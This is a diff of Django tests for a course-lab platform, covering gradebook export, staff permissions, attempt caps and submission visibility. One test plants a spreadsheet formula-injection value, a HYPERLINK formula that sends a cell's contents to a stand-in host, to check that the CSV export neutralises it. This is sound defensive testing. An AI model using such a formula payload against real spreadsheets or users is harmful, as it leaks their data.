@@ -819,3 +819,48 @@ def test_a_staff_account_sees_only_its_own_runs_in_the_admin_and_changes_only_wh
     client.force_login(arne)
     view_only = client.get(f"/admin/labs/assignment/{world.assignment.pk}/change/").content.decode()
     assert 'name="_save"' not in view_only  # an assistant looks, an instructor changes
+
+
+def test_a_name_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(book_world) -> None:
+    client, assignment = book_world
+    MembershipFactory(
+        run=assignment.run,
+        user=UserFactory(username="-2+3", first_name='=HYPERLINK("http://x/?"&B2,"open")', email="@x.org"),
+    )
+    rows = client.get(f"/runs/spring/assignments/{assignment.pk}/gradebook.csv").content.decode("utf-8-sig")
+    assert (
+        rows.splitlines()[1] == '\'-2+3,"\'=HYPERLINK(""http://x/?""&B2,""open"")",\'@x.org,,0,no,,0,no,0.0'
+    )
+
+
+def test_a_course_author_who_teaches_no_run_may_look_but_not_change_a_students_terms(world: World) -> None:
+    author = UserFactory(username="author")
+    world.exercise.course.staff.add(author)
+    client = Client(HTTP_ACCEPT_LANGUAGE="en")
+    client.force_login(author)
+    base = f"/runs/spring/assignments/{world.assignment.pk}/extensions/"
+    assert client.get(base).status_code == 200
+    assert client.post(base, extension_post(world)).status_code == 403
+    assert client.post(f"{base}{world.extension.pk}/remove/").status_code == 403
+    assert Extension.objects.filter(pk=world.extension.pk).exists()
+
+
+def test_the_gradebook_counts_attempts_against_the_students_own_cap(world: World) -> None:
+    Extension.objects.filter(pk=world.extension.pk).update(extra_attempts=2)
+    book = client_for(world, "instructor").get(f"/runs/spring/assignments/{world.assignment.pk}/gradebook/")
+    alice = book.content.decode().split('data-username="alice"')[1].split("</tr>")[0]
+    bob = book.content.decode().split('data-username="bob"')[1].split("</tr>")[0]
+    assert '<span class="meta" data-role="attempts">1/5 attempts</span>' in alice
+    assert '<span class="meta" data-role="attempts">0/3 attempts</span>' in bob
+
+
+def test_staff_do_not_see_what_a_student_practised_before_joining_their_run(world: World) -> None:
+    earlier = SubmissionFactory(owner=world.users["student"], exercise=world.exercise, status=Status.DONE)
+    joined = Membership.objects.get(run=world.run, user=world.users["student"]).created_at
+    Submission.objects.filter(pk=earlier.pk).update(created_at=joined - timedelta(days=30))
+    client = client_for(world, "instructor")
+    assert client.get(f"/labs/submissions/{earlier.pk}/").status_code == 404
+    assert client.get(f"/labs/submissions/{world.practice.pk}/").status_code == 200
+    listed = client.get("/runs/spring/submissions/").content.decode()
+    assert f'href="/labs/submissions/{earlier.pk}/"' not in listed
+    assert f'href="/labs/submissions/{world.practice.pk}/"' in listed
